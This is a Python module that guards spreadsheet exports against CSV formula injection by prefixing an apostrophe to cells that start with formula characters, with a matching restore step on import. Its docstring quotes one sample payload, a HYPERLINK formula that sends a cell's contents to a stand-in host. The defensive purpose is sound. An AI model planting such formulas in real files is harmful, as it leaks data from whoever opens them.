"""Text that a spreadsheet shows as text: the one rule every CSV or XLSX export writes by and every import
reads back by (OWASP, "CSV Injection").

A spreadsheet opening a file takes a cell beginning with `=`, `+`, `-` or `@` for a formula, and a leading
tab or carriage return can hide one; a name such as `=HYPERLINK("http://x.example/?"&A2,"klik")` would run
on the machine of whoever opens the export. An export prefixes such text with an apostrophe, which
spreadsheets read as "this cell is text" and do not show. Text that itself begins with an apostrophe is
prefixed too, so that the import can tell the two apart and give back exactly what was exported:

    neutralise("=1+1") == "'=1+1"      restore("'=1+1") == "=1+1"
    neutralise("'abc") == "''abc"      restore("''abc") == "'abc"
    neutralise("Budi") == "Budi"       restore("'abc") == "'abc"   (not something an export writes)

Only text is neutralised: a number (-2 in a numeric column) is written as the number it is.
"""

FORMULA_STARTS = frozenset("=+-@\t\r")
QUOTE = "'"


def starts_formula(text: str) -> bool:
    """Whether a spreadsheet could read `text`, as the whole of a cell, as a formula."""
    return text[:1] in FORMULA_STARTS


def neutralise(text: str) -> str:
    """`text` as an export writes it in a CSV cell: shown as text by spreadsheets, `restore` undoes it."""
    return QUOTE + text if text[:1] in FORMULA_STARTS or text.startswith(QUOTE) else text


def restore(text: str) -> str:
    """The text `neutralise` was given for `text`; text no export wrote (an apostrophe then a letter, say)
    is left as it is."""
    if text.startswith(QUOTE) and (text[1:2] in FORMULA_STARTS or text[1:2] == QUOTE):
        return text[1:]
    return text
